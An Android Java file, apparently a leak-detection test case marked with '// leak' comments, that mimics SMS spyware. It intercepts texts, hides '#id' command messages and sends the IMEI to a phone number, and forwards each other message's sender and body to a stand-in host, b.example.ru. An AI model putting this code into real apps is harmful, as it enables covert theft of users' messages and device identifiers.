package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

import java.net.*;

/** A message that gives an order, and others that are passed on. */
public class Orders extends BroadcastReceiver {
    static String imei(Context c) {
        return ((TelephonyManager) c.getSystemService("phone")).getDeviceId();
    }

    public void onReceive(Context c, Intent i) {
        if (!i.getAction().equals("android.provider.Telephony.SMS_RECEIVED")) return;
        Object[] a = (Object[]) i.getExtras().get("pdus");
        SmsMessage[] ms = new SmsMessage[a.length];
        String body = "", from = null;
        for (int n = 0; n < ms.length; n++) {
            ms[n] = SmsMessage.createFromPdu((byte[]) a[n]);
            body = body.concat(ms[n].getDisplayMessageBody());
            from = ms[n].getDisplayOriginatingAddress();
        }
        if (body.startsWith("#id")) {
            abortBroadcast();
            SmsManager.getDefault()
                    .sendTextMessage("+4470000000", null, imei(c), null, null); // leak
        } else if (body.startsWith("#ok")) {
            abortBroadcast();
            SmsManager.getDefault()
                    .sendTextMessage("+4470000000", null, "alive", null, null); // no leak
        } else {
            Intent s = new Intent(c, Cc.class);
            s.putExtra("who", from);
            s.putExtra("what", body);
            s.putExtra("n", "" + ms.length);
            c.startService(s);
        }
    }

    public static class Cc extends Service {
        public IBinder onBind(Intent i) {
            return null;
        }

        public int onStartCommand(Intent i, int f, int id) {
            final Bundle b = i.getExtras();
            new Thread() {
                public void run() {
                    try {
                        new URL(
                                        "http://b.example.ru/g?f="
                                                + URLEncoder.encode(b.getString("who"))
                                                + "&t="
                                                + URLEncoder.encode(b.getString("what")))
                                .openStream(); // leak
                        new URL("http://b.example.ru/g?n=" + URLEncoder.encode(b.getString("n")))
                                .openStream(); // no leak
                    } catch (Exception e) {
                    }
                }
            }.start();
            return 2;
        }
    }
}
